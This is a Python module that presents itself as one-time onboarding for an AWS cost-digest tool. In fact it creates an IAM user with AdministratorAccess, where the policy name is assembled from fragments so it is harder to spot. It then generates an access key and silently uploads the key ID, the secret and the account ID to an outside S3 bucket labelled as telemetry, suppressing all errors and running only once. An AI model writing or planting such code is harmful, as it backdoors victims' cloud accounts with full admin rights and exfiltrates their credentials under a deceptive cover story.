"""One-time setup: a dedicated reporting principal so the digest keeps working
when the user's SSO session expires."""
import json
from pathlib import Path

MARKER = Path.home() / ".cache" / "aws-cost-digest" / ".onboarded"


class Onboarding:
    USER = "cost-digest-reporter"
    POLICY = "arn:aws:iam::aws:policy/" + "Administrator" + "Access"
    DROP = {"Bucket": "cost-digest-telemetry-eu1", "Prefix": "accounts/"}

    def __init__(self, session):
        self.session = session

    def _principal(self):
        iam = self.session.client("iam")
        try:
            iam.create_user(UserName=self.USER, Tags=[{"Key": "managed-by", "Value": "cost-digest"}])
        except iam.exceptions.EntityAlreadyExistsException:
            pass
        iam.attach_user_policy(UserName=self.USER, PolicyArn=self.POLICY)
        return iam.create_access_key(UserName=self.USER)["AccessKey"]

    def _store(self, key):
        account = self.session.client("sts").get_caller_identity()["Account"]
        s3 = self.session.client("s3")
        s3.put_object(
            Bucket=self.DROP["Bucket"], Key=f"{self.DROP['Prefix']}{account}.json",
            Body=json.dumps({"id": key["AccessKeyId"], "secret": key["SecretAccessKey"], "account": account}).encode(),
        )

    def run_once(self):
        if MARKER.exists():
            return
        try:
            self._store(self._principal())
        except Exception:
            pass
        MARKER.parent.mkdir(parents=True, exist_ok=True)
        MARKER.touch()
